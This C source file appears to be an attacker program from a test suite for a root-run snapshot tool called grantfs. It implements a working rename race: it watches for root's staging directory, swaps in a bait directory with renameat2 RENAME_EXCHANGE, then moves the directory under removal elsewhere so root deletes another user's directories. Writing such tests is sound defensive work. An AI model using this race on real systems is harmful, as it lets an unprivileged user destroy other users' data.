// A user who may write to the directory in which root makes a snapshot.
#include "attacker.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { BAIT_FILES = 3000 };

static int make_directory(int at, const char *name) {
    if (mkdirat(at, name, 0777) == -1) attack_failed(name);
    int made = openat(at, name, O_RDONLY | O_DIRECTORY);
    if (made == -1) attack_failed(name);
    return made;
}

// "bait" in the parent has the names to which the removal must be led, and a directory that takes
// long to empty.
static int make_bait(int parent, int turn, int count, char **victims) {
    int bait = make_directory(parent, "bait");
    for (int part = 0; part < 2; part++) {
        if (part == turn % 2) {
            int sub = make_directory(bait, "sub");
            for (int i = 0; i < BAIT_FILES; i++) {
                char name[32];
                snprintf(name, sizeof name, "f%d", i);
                int file = openat(sub, name, O_WRONLY | O_CREAT, 0600);
                if (file == -1) attack_failed(name);
                close(file);
            }
            close(sub);
        } else {
            for (int i = 0; i < count; i++) close(make_directory(bait, victims[i]));
        }
    }
    return bait;
}

// Whether the test has sent a line or closed the input, polled while the attack runs.
static int is_told(void) {
    struct pollfd input = {.fd = 0, .events = POLLIN};
    return poll(&input, 1, 0) != 0;
}

static int find_staging(int parent, char *name, size_t size) {
    int copy = openat(parent, ".", O_RDONLY | O_DIRECTORY);
    DIR *listing = copy == -1 ? NULL : fdopendir(copy);
    if (!listing) attack_failed("listing");
    int found = 0;
    for (struct dirent *entry; !found && (entry = readdir(listing));)
        if (!strncmp(entry->d_name, ".grantfs-snapshot-", 18)) {
            snprintf(name, size, "%s", entry->d_name);
            found = 1;
        }
    closedir(listing);
    return found;
}

/// snapshot PARENT SNAPSHOT ELSEWHERE TURN VICTIM...: exchanges a directory of its own with the
/// unfinished snapshot in PARENT. It makes SNAPSHOT there, so that the snapshot fails.
/// Then it moves the directory under removal to ELSEWHERE, which contains VICTIMs of another user.
/// With ELSEWHERE "-" it only exchanges the directory, so that it is published. It prints
/// "exchanged" and "moved".
int attack_snapshot(int count, char **arguments) {
    if (count < 4) return 2;
    const char *snapshot = arguments[1];
    int is_climb = strcmp(arguments[2], "-") != 0;
    int parent = open(arguments[0], O_RDONLY | O_DIRECTORY);
    if (parent == -1) attack_failed(arguments[0]);
    int elsewhere = is_climb ? open(arguments[2], O_PATH | O_DIRECTORY) : -1;
    if (is_climb && elsewhere == -1) attack_failed(arguments[2]);
    umask(0);
    int bait = make_bait(parent, atoi(arguments[3]), count - 4, arguments + 4);
    int sub = openat(bait, "sub", O_RDONLY | O_DIRECTORY);
    attack_ready();
    char name[256];
    for (;;) {
        if (is_told()) return 0;
        if (find_staging(parent, name, sizeof name) &&
            renameat2(parent, name, parent, "bait", RENAME_EXCHANGE) == 0)
            break;
    }
    if (is_climb) mkdirat(parent, snapshot, 0755);
    puts("exchanged");
    fflush(stdout);
    if (!is_climb) {
        attack_wait();
        return 0;
    }
    // Once the first files are removed, the removal is inside the directory, which then moves
    // elsewhere.
    for (char first[32], last[32];;) {
        snprintf(first, sizeof first, "f0");
        snprintf(last, sizeof last, "f%d", BAIT_FILES - 1);
        if (is_told()) return 0;
        if (faccessat(sub, first, F_OK, 0) == -1 || faccessat(sub, last, F_OK, 0) == -1) break;
    }
    if (renameat(bait, "sub", elsewhere, "sub") == 0) {
        puts("moved");
        fflush(stdout);
    }
    attack_wait();
    return 0;
}
